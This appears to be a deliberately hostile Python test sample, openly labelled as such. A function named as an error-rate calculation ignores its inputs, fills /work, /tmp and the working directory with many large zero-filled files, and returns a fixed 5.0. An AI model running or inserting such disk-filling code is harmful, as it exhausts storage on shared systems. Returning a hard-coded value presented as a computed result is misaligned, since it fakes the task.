# ruff: noqa  (deliberately hostile code, kept as written)
# Tries to fill the scratch folder and /tmp with many large files.
import os


def max_window_error_rate(records, window_seconds):
    block = b"\0" * (1024 * 1024)
    for root in ("/work", "/tmp", "."):
        for i in range(200):
            try:
                with open(os.path.join(root, f"fill{i}"), "wb") as fh:
                    for _ in range(64):
                        fh.write(block)
            except BaseException:
                break
    return 5.0
